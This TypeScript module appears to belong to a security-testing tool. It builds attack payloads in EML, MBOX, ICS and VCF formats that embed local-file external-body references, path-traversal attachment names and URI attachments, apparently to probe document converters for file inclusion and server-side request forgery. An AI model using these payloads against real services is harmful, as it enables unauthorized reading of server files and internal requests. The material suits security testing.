import { type Attack, attack } from "../attack.ts";
import { eachOf, type Places } from "./targets.ts";
import { pageOf } from "./texts.ts";

export const mail = (places: Places): readonly Attack[] => {
  const each = eachOf(places);
  const [first] = places;
  const html = pageOf(places);
  const parts = each(
    (place, index) =>
      `--b\r\nContent-Type: message/external-body; access-type=local-file; name="${place}"\r\nContent-ID: <x${index}>\r\n\r\n--b\r\nContent-Type: text/plain\r\nContent-Location: ${place}\r\nContent-Disposition: attachment; filename="../../${place}"\r\n\r\nx\r\n`,
  );
  const eml = `From: a@example.org\r\nSubject: ${first}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n${parts}--b--\r\n`;

  return [
    attack("eml", ["html", "pdf", "json", "zip", "docx"], "all kinds of references", () => eml),
    attack(
      "mbox",
      ["html", "zip"],
      "all kinds of references",
      () => `From a@example.org Thu Jan  1 00:00:00 1970\r\n${eml}`,
    ),
    attack(
      "ics",
      ["json", "csv"],
      "all kinds of references",
      () =>
        `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:20200101T000000Z\r\n${places.map((place) => `ATTACH;VALUE=URI:${place}\r\nURL:${place}\r\n`).join("")}SUMMARY:x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
    ),
    attack(
      "vcf",
      ["json", "csv"],
      "all kinds of references",
      () =>
        `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\n${places.map((place) => `PHOTO;VALUE=URI:${place}\r\nKEY;VALUE=URI:${place}\r\n`).join("")}END:VCARD\r\n`,
    ),
  ];
};
